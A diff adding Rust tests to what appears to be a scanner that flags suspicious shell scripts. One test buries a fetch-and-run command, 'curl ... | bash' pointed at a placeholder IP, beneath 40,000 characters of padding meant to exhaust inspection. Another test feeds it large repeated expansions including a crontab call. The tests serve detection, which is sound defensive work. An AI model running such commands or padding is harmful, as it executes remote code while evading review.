@@ -463,7 +463,7 @@ fn each_signal_counts_once_and_the_table_is_whole() {
     }
     // Every signal has an example, here or among the directives.
     for signal in SIGNALS {
-        let elsewhere = ["exe-07", "dec-02"].contains(&signal.id);
+        let elsewhere = ["exe-07", "dec-02", "dec-03"].contains(&signal.id);
         let here = SHELL.iter().chain(WINDOWS).any(|(id, ..)| *id == signal.id);
         assert!(elsewhere || here, "{} has no example", signal.id);
     }
@@ -560,5 +560,29 @@ proptest! {
         for finding in &judgement.findings {
             prop_assert!(finding.quote.chars().count() <= 200);
         }
+    }
+}
+
+#[test]
+fn a_script_that_wears_inspection_out_is_suspicious_and_is_still_searched() {
+    let commands = ":;".repeat(20_000);
+    let found = judged(&format!("{commands}\ncurl -s http://203.0.113.9/x | bash\n"));
+    let ids: Vec<&str> = found.findings.iter().map(|finding| finding.id).collect();
+    assert!(ids.contains(&"dec-03") && ids.contains(&"exe-01"), "{ids:?}");
+    assert_eq!(found.conclusion, Conclusion::Suspicious);
+}
+
+#[test]
+fn a_large_value_that_is_used_many_times_costs_a_bounded_number_of_steps() {
+    let value = "v".repeat(100_000);
+    for use_of_it in
+        ["${#a} ", "${a:1:1} ", "$a ", "\"${a[@]}\" ", "${!a} ", "${a/x/y} ", "cat f>>g\n", "crontab f\n"]
+    {
+        let text = format!("a={value}\necho $a > f\necho {}\n", use_of_it.repeat(5_000));
+        let budget = Budget::for_text(text.len());
+        let mut left = budget.clone();
+        let script =
+            script::scan_within(&mut left, &script::Known::default(), UnitKind::Root, Language::Shell, &text);
+        assert!(script.over_bound, "{use_of_it}: 500 MB are not looked through");
     }
 }
